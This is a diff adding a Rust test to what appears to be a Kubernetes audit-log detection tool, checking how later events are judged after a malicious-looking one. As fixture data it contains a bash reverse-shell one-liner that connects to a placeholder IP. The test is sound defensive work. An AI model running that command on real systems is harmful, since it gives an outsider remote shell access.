@@ -461,6 +461,49 @@ fn who_shares_a_credential_does_not_inherit_its_history() {
     assert_eq!((&last["history_level"], &last["decided_by"]), (&json!("E0"), &json!("n/foreign")));
 }
 
+/// What an attacker writes after the attack makes nothing look usual; what the user wrote before still does.
+#[test]
+fn history_after_a_graver_alert_explains_nothing() {
+    let shell = "bash -i >& /dev/tcp/198.51.100.9/443 0>&1";
+    let write = |cluster: &str, minutes: i64, name: &str, command: &str| {
+        let words = json!({"user": "m", "verb": "create", "namespace": "n", "name": name, "code": 201,
+            "minutes": minutes, "command": command});
+        line(cluster, &event(&words, &format!("{cluster}{name}")))
+    };
+    let mut text = String::new();
+    for cluster in ["STRANGER", "KNOWN", "MILD"] {
+        heartbeats(cluster, -30_000, &mut text);
+        let first = if cluster == "MILD" { "/report" } else { shell };
+        text.extend(
+            [(-600, "a", first), (-300, "b", "/report"), (0, "c", "/report")]
+                .map(|(minutes, name, command)| write(cluster, minutes, name, command)),
+        );
+    }
+    text.push_str(&write("KNOWN", -20_000, "old", "/report"));
+    let (_directory, file) = dump(&text);
+    let book = runbook(&[file], &[]);
+    let alerts = book["alerts"].as_array().unwrap();
+    let of = |cluster: &str, name: &str| {
+        let decided = format!("n/{name}");
+        let is_it = |alert: &&Value| alert["cluster"] == cluster && alert["decided_by"] == decided.as_str();
+        alerts.iter().find(is_it).unwrap()
+    };
+    let grave = of("STRANGER", "a");
+    for name in ["b", "c"] {
+        let (later, mild, known) = (of("STRANGER", name), of("MILD", name), of("KNOWN", name));
+        assert_eq!((&later["verdict"], &later["history_level"]), (&json!("REVIEW"), &mild["history_level"]));
+        assert_eq!(later["verdict_rule"], "S0 x E0, the history before the first graver alert");
+        let reason = later["reasons"].as_array().unwrap().iter().find(|reason| reason["id"] == "CJ-BEH-21").unwrap();
+        let told =
+            format!("MALICIOUS-LIKELY alert {} of 2026-11-23T17:00:00Z: n/a", grave["alert_id"].as_str().unwrap());
+        assert_eq!((&reason["match"], &reason["audit_id"]), (&json!(told), &json!("STRANGERa")));
+        assert!(later["would_change"].to_string().contains("the alert that CJ-BEH-21 names"), "{later:#}");
+        // An honest user, and one whose history does not rest on the attack.
+        assert_eq!((&mild["verdict"], mild["reasons"].to_string().contains("CJ-BEH-21")), (&json!("EXPECTED"), false));
+        assert_eq!((&known["verdict"], known["reasons"].to_string().contains("CJ-BEH-21")), (&json!("EXPECTED"), true));
+    }
+}
+
 /// Three namespaces within ten minutes are a spray, in eighteen they are not; a deletecollection is named as such.
 #[test]
 fn sprays_and_sweeps_are_told_by_the_minute() {
